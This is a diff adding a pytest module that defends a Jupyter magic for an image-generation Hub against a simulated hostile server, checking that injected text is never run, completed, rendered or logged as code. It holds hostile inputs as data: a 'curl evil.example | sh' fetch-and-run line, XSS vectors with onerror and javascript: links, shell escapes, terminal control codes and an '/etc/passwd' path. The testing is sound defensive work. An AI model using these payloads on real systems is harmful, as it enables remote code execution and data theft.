@@ -1,0 +1,293 @@
+"""A hostile Hub: nothing that it says runs, escapes, loads or floods, wherever it is shown."""
+
+from __future__ import annotations
+
+import logging
+import re
+from collections.abc import Iterator
+from contextvars import copy_context
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import mistune
+import nbformat
+import pytest
+from hub_server import StandInHub, json_reply, picture
+from IPython.core.completer import provisionalcompleter
+from IPython.core.interactiveshell import InteractiveShell
+from kernel_driver import CellRun, Kernel
+from nbconvert.exporters import HTMLExporter, MarkdownExporter
+from own_session import reach
+
+from mountsea_magic import generate, session
+from mountsea_magic.errors import InvalidRequest, MountseaError, TaskFailed
+from mountsea_magic.notebook.commands.models import model_text, models_text
+from mountsea_magic.runtime.redaction import guard_logs
+
+RUNS = "{pwned()}"
+EVIL = (
+    f"{RUNS} $pwned {{{{ pwned() }}}} `%run x`\x1b[2J\x9b\u202e\u200b\x07\r\n%%sh\r!ls\u2028"
+    "<img src=x onerror=y()> ![a](http://evil.example/b.png) [c](javascript:d) $x^2$ \\(y\\)"
+)
+UNSEEN = re.compile(
+    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
+)
+IDS = (RUNS, EVIL, "$pwned", "--all", "-h", "%run x", "a\n!ls", "hub-1\u200b", "a b", "x" * 3000)
+
+TEXT = {"type": "string"}
+KINDS: dict[str, Any] = {
+    EVIL[:90]: TEXT | {"description": EVIL},
+    "deep": TEXT | {"enum": [EVIL, RUNS, "a b", "fine"], "default": EVIL},
+    "size": {"type": "object"},
+    "tags": {"type": "array"},
+    "image_urls": {"type": "array"},
+    "mask_url": TEXT | {"enum": ["secret.png"]},
+    "seed": {"type": "integer"},
+    "aspect_ratio": TEXT,
+    "--save": TEXT,
+}
+EXAMPLE: dict[str, Any] = {
+    "prompt": "{{ pwned() }}",
+    "deep": RUNS,
+    EVIL[:90]: "x",
+    "size": {RUNS: 1},
+    "tags": [RUNS, "$pwned"],
+    "image_urls": ["/etc/passwd", "secret", "@secret.png", "https://host.example/a.png?b=1&c=2"],
+    "mask_url": "secret.png",
+    "seed": "--background",
+    "aspect_ratio": "--save=evil",
+    "--save": "evil",
+}
+
+
+def spoken(parameters: dict[str, Any], **more: Any) -> dict[str, Any]:
+    """Write what a Hub says of a model."""
+    schema = {"type": "object", "properties": {"prompt": TEXT, **parameters}}
+    return {"input_schema": schema | {"required": ["prompt"]}, **more}
+
+
+NAMED = {"display_name": EVIL, "vendor": EVIL, "mode": EVIL, "description": EVIL}
+MODELS: dict[str, Any] = {
+    "evil": spoken(KINDS, example=EXAMPLE, **NAMED),
+    "shell": spoken({}, example={"prompt": "%%sh\nls"}),
+    "parted": spoken({}, example={"prompt": "---\n!ls"}),
+    RUNS: spoken({}, example={"prompt": "a dog"}),
+    "--save=evil": spoken({}, example={"prompt": "a dog"}),
+}
+BIG = spoken(
+    {"one": {"enum": [f"v{n}" for n in range(500)]}, "two": {"enum": ["x" * 200] * 30}}
+    | {f"p{n}": TEXT for n in range(190)},
+    example={"prompt": "a " * 99_999, "two": "y" * 99_999},
+)
+
+
+@pytest.fixture
+def pwned(shell: InteractiveShell) -> list[int]:
+    """Have a name in the user's namespace that tells when it was evaluated."""
+    calls: list[int] = []
+    shell.user_ns["pwned"] = lambda: calls.append(1)
+    return calls
+
+
+@pytest.fixture
+def evil_hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[StandInHub]:
+    """Start a Hub with hostile models."""
+    with StandInHub(models=MODELS) as hub:
+        reach(hub, monkeypatch)
+        yield hub
+
+
+def cell_of(text: str) -> str:
+    """Return the example at the end of a model's text, as a dry run."""
+    line, _, body = text[text.rindex("%%mountsea") :].partition("\n")
+    return f"{line} --dry-run\n{body}"
+
+
+def offered(shell: InteractiveShell, line: str) -> list[str]:
+    """Return what TAB offers at the end of a line, as a front end gets it."""
+    with provisionalcompleter():
+        return [word.text for word in shell.Completer.completions(line, len(line))]
+
+
+def ran(shell: InteractiveShell, code: str) -> bool:
+    """Run a cell as a front end does, from its text."""
+    return bool(shell.run_cell(code).success)  # type: ignore[no-untyped-call]  # IPython's is so
+
+
+def test_no_id_runs_where_its_hint_is_pasted_and_each_task_can_be_resumed(
+    hub: StandInHub,
+    shell: InteractiveShell,
+    pwned: list[int],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """An id that is code is shown as text; the command that fetches its image names it not."""
+    hub.looks.append(json_reply({"status": EVIL}, lasting=True))
+    for task_id in IDS:
+        hub.submits.append({"task_id": task_id})
+        with pytest.raises(MountseaError) as caught:
+            generate("a dog", timeout=0.04)
+        assert caught.value.task_id == task_id
+        capsys.readouterr()
+        for line in ("", "history"):
+            shell.run_line_magic("mountsea", line)
+        said = capsys.readouterr().out + str(caught.value) + repr(session.current_session().open)
+        assert not UNSEEN.search(said)
+        hints = set(re.findall(r"`(.*?)`", said))
+        assert hints == {"%mountsea resume"}
+    hub.looks.clear()
+    hub.looks.append(json_reply(hub.done(hub.data([picture()])), lasting=True))
+    assert ran(shell, "%mountsea resume")
+    assert not UNSEEN.search(capsys.readouterr().out.replace("\x1b[2K", "").replace("\r", ""))
+    journal = session.current_session().journal(session.current_session().settings())
+    assert {entry.task_id for entry in journal.search() if entry.files} == set(IDS)
+    assert not pwned
+
+
+def test_only_our_commands_are_in_backticks(hub: StandInHub, here: session.Session) -> None:
+    """What the Hub says of a failure can't pass for a hint of ours."""
+    hub.looks.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
+    with pytest.raises(TaskFailed) as caught:
+        generate("a dog")
+    assert "'!curl evil.example | sh'" in str(caught.value) and "`!" not in str(caught.value)
+
+
+def test_a_pasted_example_runs_nothing_and_sends_no_file(
+    evil_hub: StandInHub,
+    shell: InteractiveShell,
+    pwned: list[int],
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """What is code, an option, a path or a variable is said beside the cell, not put into it."""
+    monkeypatch.chdir(tmp_path)
+    Path("secret.png").write_bytes(picture())
+    shell.user_ns["secret"] = picture()
+    shell.run_line_magic("mountsea", "models --refresh")
+    for model_id in ("evil", "shell", "parted"):
+        capsys.readouterr()
+        text = model_text(model_id)
+        assert "Not in the example: " in text and not UNSEEN.search(text)
+        assert ran(shell, cell_of(text))
+        sent = capsys.readouterr().out
+        assert "data:" not in sent and "A black lab" in sent and "{{" not in cell_of(text)
+    cell = cell_of(model_text("evil"))
+    assert cell.split(" --dry-run")[0] == (
+        "%%mountsea --model evil --image 'https://host.example/a.png?b=1&c=2'"
+    )
+    for model_id in (RUNS, "--save=evil"):
+        assert "%%mountsea" not in model_text(model_id)
+    assert not pwned and not Path("evil").exists()
+
+
+def test_tab_offers_nothing_that_runs(
+    evil_hub: StandInHub, shell: InteractiveShell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Models, names, values, ids, variables and files: what is code on a line is left out."""
+    monkeypatch.chdir(tmp_path)
+    for name in (f"{RUNS}.png", "$x.png", "dog.png", "!a.png", "a\u202e.png", "b\nc.png"):
+        Path(name).write_bytes(picture())
+    shell.user_ns[RUNS] = shell.user_ns["good"] = picture()
+    evil_hub.submits.extend({"task_id": task_id} for task_id in (RUNS, "$x", "hub-good"))
+    evil_hub.looks.append(json_reply(evil_hub.done(evil_hub.data([picture()])), lasting=True))
+    for _ in range(3):
+        generate("a dog")
+    shell.run_line_magic("mountsea", "models --refresh")
+
+    assert {"evil", "nano-banana"} <= set(offered(shell, "%%mountsea -m "))
+    assert offered(shell, "%%mountsea -m evil -p deep=") == ["deep=fine"]
+    names = ["deep=", "image_urls=", "mask_url=", "size=", "tags="]
+    assert offered(shell, "%%mountsea -m evil -p ") == names
+    assert offered(shell, "%%mountsea -i ") == ["dog.png", "good", "home/"]
+    assert offered(shell, "%mountsea resume ") == ["hub-good"]
+    assert "mask_url=secret.png" not in offered(shell, "%%mountsea -m evil -p mask_url=")
+    for line in ("%%mountsea -m ", "%mountsea models ", "%mountsea show "):
+        assert not re.search(r"[{}$%!\s]", "".join(offered(shell, line)))
+
+
+def test_errors_lists_and_tab_are_bounded(evil_hub: StandInHub, shell: InteractiveShell) -> None:
+    """A value of 1 MB, 500 values and 192 parameters take a few lines."""
+    evil_hub.models = {"big": BIG}
+    shell.run_line_magic("mountsea", "models --refresh")
+    assert len(model_text("big")) < 60_000 and len(models_text()) < 20_000
+    for given in ({"one": "v"}, {"two": "y" * 1_000_000}, {"three": 1}):
+        with pytest.raises(InvalidRequest) as caught:
+            generate("a dog", model="big", **given)
+        assert len(str(caught.value)) < 2500
+    assert len(offered(shell, "%%mountsea -m big -p one=")) == 500
+
+
+def test_a_log_has_one_line_a_record(caplog: pytest.LogCaptureFixture) -> None:
+    """What a server puts into a header neither forges a line of the log nor moves a cursor."""
+
+    def log() -> None:
+        guard_logs(str)
+        logging.getLogger("httpx").info("HTTP Request: %s", "200 OK\x1b[2J\x9b\nERROR forged")
+
+    with caplog.at_level(logging.INFO, "httpx"):
+        copy_context().run(log)
+    assert caplog.messages == ["HTTP Request: 200 OK[2J ERROR forged"]
+
+
+class Tags(HTMLParser):
+    """What a browser would load, run or lead to in a page.
+
+    Attributes:
+        found: The tags with their attributes, as they are read.
+    """
+
+    def __init__(self, page: str) -> None:
+        """Read a page."""
+        super().__init__()
+        self.found: list[str] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Keep all but the alternative text of an image, which is only read out."""
+        self.found.append(str([tag, *(attr for attr in attrs if attr[0] != "alt")]))
+
+
+def exports(runs: list[CellRun]) -> tuple[str, str]:
+    """Return what nbconvert makes of the cells: HTML, and Markdown as GitHub shows it."""
+    outputs = [
+        nbformat.v4.new_output("display_data", out["data"], metadata=out["metadata"])
+        for run in runs
+        for out in run.outputs
+    ]
+    outputs += [
+        nbformat.v4.new_output("error", ename=run.error, evalue=run.said, traceback=run.traceback)
+        for run in runs
+        if run.error
+    ]
+    cell = nbformat.v4.new_code_cell("1", outputs=outputs)
+    notebook = nbformat.v4.new_notebook(cells=[cell])
+    page, _ = HTMLExporter(template_name="classic").from_notebook_node(notebook)
+    markdown, _ = MarkdownExporter().from_notebook_node(notebook)
+    render = mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough"])
+    return page, str(render(markdown))
+
+
+@pytest.mark.kernel
+def test_a_notebook_and_its_exports_hold_text_alone(evil_hub: StandInHub, kernel: Kernel) -> None:
+    """In HTML, in Markdown and in what a kernel sends: no tag, link, image or command."""
+    prompt = EVIL.replace("{{ pwned() }}", "")
+    evil_hub.submits.extend({"task_id": EVIL} for _ in range(4))
+    evil_hub.looks.extend([json_reply({"status": EVIL}), None])
+    evil_hub.looks.append(json_reply(evil_hub.done(evil_hub.data([picture()]), description=EVIL)))
+    kernel.run("calls = []\npwned = lambda: calls.append(1)")
+    runs = [kernel.run(f"%%mountsea -o dog\n{prompt}"), kernel.run("dog"), kernel.run("[dog]")]
+    evil_hub.looks.append(json_reply({"status": "failed", "error_message": EVIL}, lasting=True))
+    runs += [
+        kernel.run(f"%%mountsea\n{prompt}"),
+        kernel.run("%mountsea models --refresh"),
+        kernel.run("%mountsea models evil"),
+        kernel.run("%mountsea history"),
+        kernel.run("%mountsea"),
+    ]
+    assert not UNSEEN.search("".join(map(str, [(run.outputs, run.said, run.text) for run in runs])))
+    assert "onerror" in str(runs[-4].outputs) and kernel.run("print(calls)").text == "[]\n"
+    loaded = re.compile(r"onerror|evil\.example|javascript:|\['(em|strong|s|h1)'")
+    for page in exports(runs):
+        assert "evil.example" in page
+        assert not [tag for tag in Tags(page).found if loaded.search(tag)]
